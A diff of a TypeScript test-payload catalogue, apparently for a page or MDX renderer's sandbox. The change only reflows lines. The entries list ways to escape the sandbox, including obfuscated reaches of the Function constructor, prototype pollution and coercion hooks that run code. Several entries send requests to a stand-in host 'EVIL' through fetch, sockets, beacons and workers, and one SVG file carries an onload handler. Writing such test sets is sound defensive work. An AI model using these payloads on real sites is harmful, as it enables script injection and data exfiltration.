@@ -8,14 +8,12 @@ export const expressions: readonly Payload[] = pages("code", {
   "the Function constructor through a string method": '{"".sub.constructor("RUN")()}',
   "the Function constructor through an arrow function": '{(() => 0).constructor("RUN")()}',
   "the Function constructor through bracket notation": '{(() => 0)["constructor"]("RUN")()}',
-  "the Function constructor through a concatenated name":
-    '{[]["con" + "structor"]["con" + "structor"]("RUN")()}',
+  "the Function constructor through a concatenated name": '{[]["con" + "structor"]["con" + "structor"]("RUN")()}',
   "the Function constructor through an array as a name": '{[][["constructor"]][["constructor"]]("RUN")()}',
   "the Function constructor through an object as a name": '{[][{ toString: () => "constructor" }]("RUN")}',
   "the Function constructor through destructuring":
     'export const f = ({ constructor: { constructor: c } }) => c("RUN")()\n\n{f([])}',
-  "the Function constructor through reduce":
-    '{["constructor", "constructor"].reduce((a, b) => a[b], [])("RUN")()}',
+  "the Function constructor through reduce": '{["constructor", "constructor"].reduce((a, b) => a[b], [])("RUN")()}',
   "the Function constructor through optional chaining": '{[]?.constructor?.constructor?.("RUN")?.()}',
   "the GeneratorFunction constructor": '{(function* () {}).constructor("RUN")().next()}',
   "the AsyncFunction constructor": '{(async () => {}).constructor("RUN")()}',
@@ -29,8 +27,7 @@ export const expressions: readonly Payload[] = pages("code", {
   fetch:
     '{fetch("https://EVIL")}{new XMLHttpRequest().open("GET", "https://EVIL")}{navigator.sendBeacon("https://EVIL")}',
   "fetch in an export": 'export const a = fetch("https://EVIL")\n\n{a}',
-  "a socket":
-    '{new WebSocket("wss://EVIL")}{new EventSource("https://EVIL")}{new Image().src = "https://EVIL"}',
+  "a socket": '{new WebSocket("wss://EVIL")}{new EventSource("https://EVIL")}{new Image().src = "https://EVIL"}',
   "a worker":
     '{new Worker("data:text/javascript,RUN")}{new SharedWorker("https://EVIL")}{navigator.serviceWorker.register("https://EVIL")}',
   "the document":
@@ -43,8 +40,7 @@ export const expressions: readonly Payload[] = pages("code", {
   "a proxy": '{new Proxy({}, { get: () => RUN }).a}{Reflect.construct(Function, ["RUN"])()}',
   "a getter": "export const o = { get a() { return RUN } }\n\n{o.a}",
   "a setter": "export const o = { set a(x) { RUN } }\n\n{o.a = 1}",
-  "a computed property name":
-    'export const o = { ["__proto__"]: { polluted: 1 } }\n\n{o.polluted}{({}).polluted}',
+  "a computed property name": 'export const o = { ["__proto__"]: { polluted: 1 } }\n\n{o.polluted}{({}).polluted}',
   "__proto__ in an object":
     "export const o = { __proto__: { polluted: 1, toString: () => RUN } }\n\n{o.polluted} {`${o}`}",
   "__proto__ of an object in an assignment":
@@ -62,24 +58,20 @@ export const expressions: readonly Payload[] = pages("code", {
   __defineGetter__: '{({}).__defineGetter__("a", () => RUN)}{({}).__lookupGetter__("__proto__")}',
   "toString that runs code":
     '{`${{ toString: () => RUN }}`}{{ toString: () => RUN } + ""}{[{ toString: () => RUN }].join()}',
-  "valueOf that runs code":
-    "{+{ valueOf: () => RUN }}{{ valueOf: () => RUN } * 1}{{ valueOf: () => RUN } > 0}",
+  "valueOf that runs code": "{+{ valueOf: () => RUN }}{{ valueOf: () => RUN } * 1}{{ valueOf: () => RUN } > 0}",
   "toJSON that runs code": "{JSON.stringify({ toJSON: () => RUN })}{JSON.stringify({ a: 1 }, () => RUN)}",
   "Symbol.toPrimitive": "{`${{ [Symbol.toPrimitive]: () => RUN }}`}",
   "Symbol.iterator": "{[...{ [Symbol.iterator]: () => RUN }]}",
   "Symbol.species": "{[].map.call({ constructor: { [Symbol.species]: () => RUN } }, (x) => x)}",
-  "then that runs code":
-    "{{ then: () => RUN }}{Promise.resolve({ then: () => RUN })}{await { then: () => RUN }}",
+  "then that runs code": "{{ then: () => RUN }}{Promise.resolve({ then: () => RUN })}{await { then: () => RUN }}",
   "a tagged template": "{String.raw`RUN`}{((a) => a.constructor.constructor(`RUN`)())`x`}{Function`RUN```}",
   "call and apply":
     '{[].map.call.apply(eval, ["RUN"])}{(() => RUN).bind(null)()}{Function.prototype.call.call(eval, null, "RUN")}',
   "callbacks of array and string methods":
     '{[1, 2].sort((a, b) => RUN)}{"a".replace(/a/, () => RUN)}{[1].map(eval)}{["RUN"].forEach(eval)}{["RUN"].map(Function)}',
-  "arguments and callee":
-    "{(function () { return arguments.callee.caller })()}{(function () { return this })().RUN}",
+  "arguments and callee": "{(function () { return arguments.callee.caller })()}{(function () { return this })().RUN}",
   "a class": "export const A = class { static { RUN } constructor() { RUN } }\n\n{new A()}",
-  "an error's stack":
-    "{(() => { try { null.a } catch (e) { return e.constructor.constructor('RUN')() } })()}",
+  "an error's stack": "{(() => { try { null.a } catch (e) { return e.constructor.constructor('RUN')() } })()}",
   "a with statement": "{(() => { with ({ a: 1 }) { RUN } })()}",
   debugger: "{(() => { debugger; return 1 })()}",
   "a regular expression that backtracks":
@@ -205,8 +197,7 @@ export const imports: readonly Payload[] = [
     name: "imports/an SVG image as a component",
     page: 'import Logo from "/logo.svg"\n\n<Logo />\n\n<img src={Logo} />\n\n<Card img={Logo} title="a" />',
     files: {
-      "logo.svg":
-        '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="https://EVIL/p.png"/></svg>',
+      "logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="https://EVIL/p.png"/></svg>',
     },
     html: '<svg onload="RUN"><image href="https://EVIL/p.png"></image></svg>',
   },
